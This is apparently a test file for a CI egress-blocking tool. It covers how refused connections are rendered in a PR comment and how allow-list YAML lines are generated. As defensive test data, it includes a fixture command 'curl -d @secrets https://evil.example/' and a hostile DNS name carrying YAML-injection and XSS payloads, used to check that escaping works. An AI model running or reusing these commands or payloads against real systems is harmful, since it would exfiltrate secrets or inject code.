// The block-mode part of the PR comment: what was refused, who tried, and the one manifest line that
// would allow it — with names from DNS (anyone can send those) escaped and never pasted as YAML.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { allowLine, renderBlockedMarkdown } from '../../shared/egress/diff/render.ts';
import { parseManifest } from '../../shared/egress/manifest/manifest.ts';
import type { BlockedConnection } from '../../shared/egress/model/report.ts';

const blocked = (over: Partial<BlockedConnection>): BlockedConnection => ({
  host: 'evil.example',
  namedBy: 'dns',
  address: '203.0.113.7',
  port: 443,
  transport: 'tcp',
  origin: 'output',
  attempts: 1,
  firstSeen: '2026-12-02T00:00:00.000Z',
  lastSeen: '2026-12-02T00:00:00.000Z',
  steps: ['Install dependencies'],
  processes: [{ pid: 4242, exe: '/usr/bin/curl', cmdline: 'curl -d @secrets https://evil.example/' }],
  ...over,
});

test('a blocked connection shows its name, port, step, process, and the line that would allow it', () => {
  const md = renderBlockedMarkdown(
    [
      blocked({}),
      blocked({ address: '2001:db8::7', processes: [{ pid: 4243, exe: '/usr/bin/node', container: '0123456789ab' }] }),
    ],
    '.github/egress.yml',
  );
  assert.match(md, /1 destination refused/, 'two addresses of one name are one row');
  assert.match(
    md,
    /\| `evil.example` \| 443 \| Install dependencies \| `curl` \(pid 4242\) `curl -d @secrets https:\/\/evil.example\/`<br>`node` \(pid 4243, container 0123456789ab\) \| 2 \| this host \|/,
  );
  assert.match(md, /```yaml\n- \{ host: evil.example, ports: \[443\] \}\n```/);
});

test('the allow line is valid manifest YAML, for names, bare addresses and UDP', () => {
  const lines = [
    allowLine(blocked({})),
    allowLine(blocked({ namedBy: 'none', host: '203.0.113.7' })),
    allowLine(blocked({ namedBy: 'none', host: '2001:db8::7', address: '2001:db8::7', transport: 'udp' })),
  ];
  assert.deepEqual(lines, [
    '- { host: evil.example, ports: [443] }',
    '- { cidr: 203.0.113.7/32, ports: [443] }',
    '- { cidr: 2001:db8::7/128, ports: [443], transport: udp }',
  ]);
  const manifest = parseManifest(`version: 1\nallow:\n${lines.map((l) => `  ${l}\n`).join('')}`, 'm.yml');
  assert.equal(manifest.entries.length, 3);
  assert.equal(manifest.entries[2]!.transport, 'udp');
});

test('a hostile DNS name is escaped in the table and never becomes YAML', () => {
  const host = 'x.example\n- host: "*"\n<img src=x onerror=alert(1)>|`';
  const md = renderBlockedMarkdown([blocked({ host })], '.github/egress.yml');
  // Inside a code span on the table's one line: shown as text, never as HTML, never a new line.
  const row = md.split('\n').find((l) => l.includes('onerror'));
  assert.ok(row?.startsWith('| `` x.example\\u{a}- host'), row);
  assert.doesNotMatch(md, /^- host: "\*"/m);
  assert.match(md, /- \{ cidr: 203\.0\.113\.7\/32, ports: \[443\] \}/, 'the address is offered instead');
});

test('nothing blocked says so', () => {
  assert.match(renderBlockedMarkdown([], 'm.yml'), /nothing was blocked/);
});
